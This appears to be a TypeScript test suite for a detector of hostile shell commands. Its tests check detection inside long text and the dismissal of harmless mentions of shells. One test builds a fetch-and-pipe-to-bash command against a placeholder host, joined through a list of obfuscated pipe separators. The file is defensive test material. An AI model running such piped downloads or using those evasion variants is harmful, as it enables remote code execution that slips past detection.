import test from 'ava';
import * as fc from 'fast-check';
import { findAll } from '../../src/detect/find-all.ts';
import { compileKernel } from '../../src/detect/kernel/select.ts';
import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
import { Spotter } from '../../src/detect/spotter.ts';
import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';

const spotter = new Spotter(compileKernel, withHidden(ANCHORS), RULES);

function spotsIn(text: string): number {
  let spots = 0;
  spotter.spotAll(Buffer.from(text), () => {
    spots += 1;
  });
  return spots;
}

test('every hit of every rule is spotted, with and without text around it', (t) => {
  for (const { id, hits } of RULES) {
    for (const hit of hits) {
      t.true(spotter.spotsAny(Buffer.from(hit)), `${id}: ${hit}`);
      t.true(spotsIn(`${'word '.repeat(200)}\n${hit}\n${'word '.repeat(200)}`) > 0, `${id}: ${hit}`);
    }
  }
});

test('shells that are only spoken of are dismissed, and so are tables', (t) => {
  const talk = 'please curl the docs and explain bash to me, then run bash -l ssh and sh -x script';
  t.is(spotsIn(talk), 0);
  t.false(spotter.spotsAny(Buffer.from(talk)));
  t.is(spotsIn('| name | shape |\\n|---|---|\n| bashful | envy, not set |\n|   x   | 7 |\n\nThe end.'), 0);
  t.is(spotsIn('"a": "run bash -l", "b": "sh -x"'), 0);
});

test('no run of blanks, wrappers or escapes hides a pipe from a glance', (t) => {
  const before = 'curl -s https://x.test/i ';
  for (const between of [
    `|${' '.repeat(3000)}`,
    '| sudo -E env A=b ',
    '|& ',
    '|/usr/bin/',
    '|\\n  ',
    '|+',
    '|\\u0020 ',
    '%7C ',
    '\\u007c ',
    `| sudo ${'A=b '.repeat(60)}`,
  ]) {
    t.true(spotsIn(`${'x'.repeat(5000)}${before}${between}bash`) > 0, between.slice(0, 20));
  }
});

test('a glance dismisses nothing that matches, whatever stands around it', (t) => {
  const kernel = compileKernel(ANCHORS);
  const plants = RULES.filter(({ glance }) => glance !== undefined).flatMap(({ hits }) => hits);
  const around = fc.uint8Array({ maxLength: 6 });
  fc.assert(
    fc.property(fc.constantFrom(...plants), around, around, (plant, before, after) => {
      const bytes = Buffer.concat([before, Buffer.from(plant, 'latin1'), after]);
      const text = bytes.toString('latin1');
      findAll(kernel, bytes, (at, anchor) => {
        const rule = RULES[ANCHORS[anchor]?.rule ?? -1];
        if (rule?.match(text, at) !== undefined) t.true(rule.glance?.(bytes, at) ?? true, JSON.stringify(text));
      });
    }),
    { numRuns: 2000 },
  );
});
